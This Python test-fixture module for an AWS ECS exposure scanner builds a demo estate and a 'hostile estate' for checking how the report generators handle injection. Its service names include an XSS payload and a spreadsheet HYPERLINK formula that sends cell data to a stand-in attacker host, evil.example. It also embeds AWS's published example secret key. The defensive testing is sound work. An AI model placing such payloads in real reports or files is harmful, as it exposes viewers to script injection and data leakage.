"""Scan results the reporter tests share: the demo estate and a small hostile estate.

Both are read from real files, so trait evidence carries file locations like a user's scan.
"""

from __future__ import annotations

import json
from contextlib import ExitStack
from datetime import UTC, datetime
from functools import cache
from pathlib import Path

from ecs_exposure.model import ScanResult
from ecs_exposure.pipeline import scan_for_reports
from ecs_exposure.reporters.context import ReportContext
from ecs_exposure.settings import ScanSettings
from ecs_exposure.sources.load import demo_paths, load_inputs
from support.builders import container, network, security_group, service, task_definition, tcp

XSS_NAME = "<img src=x onerror=alert(1)>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x"&A1)|@team # <b>bold</b>'
FIXED_TIME = "2025-01-01T00:00:00Z"


DEMO_CLOCK = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
"""The demo is judged at a fixed time: image scan ages and end-of-life dates in the golden
files would otherwise change from one day (or hour) to the next."""
DEMO_SETTINGS = ScanSettings(now=DEMO_CLOCK)


@cache
def demo_scan() -> tuple[ScanResult, ReportContext]:
    """The bundled demo estate, scanned once per test session at :data:`DEMO_CLOCK`, with
    the context its reports are rendered with (fixed revisions, evidence positions)."""
    with ExitStack() as stack:
        paths = demo_paths(stack)
        inventory, report = load_inputs(paths)
        return scan_for_reports(inventory, DEMO_SETTINGS, errors=report.errors,
                                skipped=report.skipped, inputs=[str(p) for p in paths])


def demo_result() -> ScanResult:
    """The result of :func:`demo_scan`."""
    return demo_scan()[0]


def demo_context() -> ReportContext:
    """The report context of :func:`demo_scan`."""
    return demo_scan()[1]


def demo_dir() -> str:
    """Folder of the demo estate, as it appears in evidence paths."""
    with ExitStack() as stack:
        return str(demo_paths(stack)[0].parent)


def write_hostile_estate(folder: Path) -> list[Path]:
    """Two internet-reachable services whose names are an XSS payload and a spreadsheet formula.

    The first runs a privileged container with a plaintext AWS key; the second a root
    container behind an open security group. Both are in cluster ``prod``.
    """
    folder.mkdir(parents=True, exist_ok=True)
    td_xss = task_definition(family="xss", containers=[container(
        XSS_NAME, privileged=True,
        environment=[{"name": "AWS_SECRET_ACCESS_KEY",
                      "value": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}])])
    td_formula = task_definition(family="formula", containers=[container(
        FORMULA_NAME, user=None, portMappings=[{"containerPort": 80}])])
    services = [service(XSS_NAME, family="xss", public_ip=True),
                service(FORMULA_NAME, family="formula", public_ip=True)]
    docs = {
        "td-xss.json": {"taskDefinition": td_xss},
        "td-formula.json": {"taskDefinition": td_formula},
        "services.json": {"services": services},
        "sgs.json": {"SecurityGroups": [security_group("sg-1", tcp(80))]},
        "subnets.json": network()[0],
        "routes.json": network()[1],
    }
    paths = []
    for name, doc in docs.items():
        path = folder / name
        path.write_text(json.dumps(doc, indent=2))
        paths.append(path)
    return paths


def hostile_scan(folder: Path) -> tuple[ScanResult, ReportContext]:
    """Scan of :func:`write_hostile_estate`, with its report context."""
    paths = write_hostile_estate(folder)
    inventory, report = load_inputs(paths)
    return scan_for_reports(inventory, DEMO_SETTINGS, errors=report.errors,
                            skipped=report.skipped, inputs=[str(p) for p in paths])


def hostile_result(folder: Path) -> ScanResult:
    """The result of :func:`hostile_scan`."""
    return hostile_scan(folder)[0]


def demo_counts() -> dict[str, int]:
    """Findings per severity (services + unattached task definitions) in the demo result, so
    report tests follow the demo estate as it grows instead of hard-coding its numbers."""
    result = demo_result()
    counts = {"CRITICAL": 0, "HIGH": 0, "MEDIUM": 0, "LOW": 0}
    for finding in result.findings + result.task_definition_findings:
        counts[finding.severity.name] += 1
    return counts
